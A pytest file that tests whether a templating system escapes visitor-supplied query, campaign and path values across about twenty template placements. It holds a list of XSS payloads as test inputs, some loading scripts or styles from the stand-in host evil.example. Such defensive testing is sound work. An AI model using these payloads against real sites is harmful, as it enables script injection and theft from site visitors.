"""Nothing of a visitor's comes out unescaped, whatever a template does with it."""

import json

import pytest

from support.templates import fragment, who

XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<style>@import'//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</section><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    '"/><img src=x onerror=alert(1)>',
    "<<script>alert(1);//<</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞<b>",
    "&lt;script&gt;<b>&#60;",
    "{{ 7*7 }}<b>{% raw %}",
    "<p data-sarto=hero>nested</p>",
    "\u2028<script>alert(1)</script>\u2029",
]
PLACES = {
    "as it is": "{{ %s }}",
    "in an attribute": '<p title="{{ %s }}">',
    "in a variable": "{%% set x = %s %%}{{ x }}",
    "in a block": "{%% set x %%}{{ %s }}{%% endset %%}{{ x }}",
    "through a macro": "{%% macro m(x) %%}<i>{{ x }}</i>{%% endmacro %%}{{ m(%s) }}",
    "joined": "{{ 'a' ~ %s }}",
    "joined to safe text": "{{ ('<b>'|e) ~ %s }}",
    "formatted": "{{ '<b>%%s</b>'|format(%s) }}",
    "formatted into safe text": "{{ ('<b>{}</b>'|e).format(%s) }}",
    "in a list": "{{ [%s]|join(', ') }}",
    "replaced": "{{ %s|replace('a', 'b') }}",
    "in upper case": "{{ %s|upper }}",
    "stripped of tags": "{{ %s|striptags }}",
    "unescaped": "{{ (%s|e).unescape() }}",
    "as attributes": "<p{{ {'title': %s}|xmlattr }}>",
    "in a filter": "{%% filter lower %%}{{ %s }}{%% endfilter %%}",
    "through a loop": "{%% for x in [%s] %%}{{ x }}{%% endfor %%}",
    "included": "{%% set x = %s %%}{%% include 'b.html' %%}",
    "as a default": "{{ none|default(%s, true) }}",
}
FACTS = {
    "query": "visitor.facts['query.q']",
    "campaign": "visitor.facts['campaign.source']",
    "path": "visitor.facts.path",
}


@pytest.mark.parametrize("fact", FACTS.values(), ids=FACTS)
@pytest.mark.parametrize("place", PLACES.values(), ids=PLACES)
def test_nothing_of_a_visitors_comes_out_unescaped(place: str, fact: str) -> None:
    compiled = fragment(place % fact, b="{{ x }}")
    plain = "".join(compiled.render({"visitor": who(path="/x", q="x", utm_source="x")}))
    for payload in XSS:
        asking = who(path="/" + payload, q=payload, utm_source=payload)
        shown = "".join(compiled.render({"visitor": asking}))
        for mark in "<>\"'":
            assert shown.count(mark) <= plain.count(mark), shown


@pytest.mark.parametrize("payload", XSS)
def test_a_visitors_words_as_json_may_stand_in_a_script(payload: str) -> None:
    (shown,) = fragment("{{ visitor.facts['query.q']|tojson }}").render(
        {"visitor": who(q=payload)}
    )
    assert json.loads(shown) == payload
    assert not set(shown) & set("<>'&")


def test_a_visitors_words_are_shown_as_they_are() -> None:
    (shown,) = fragment("{{ visitor.facts['query.q'] }}").render(
        {"visitor": who(q="<p title=\"a\" id='b'> & سلام")}
    )
    assert shown == "&lt;p title=&#34;a&#34; id=&#39;b&#39;&gt; &amp; سلام"
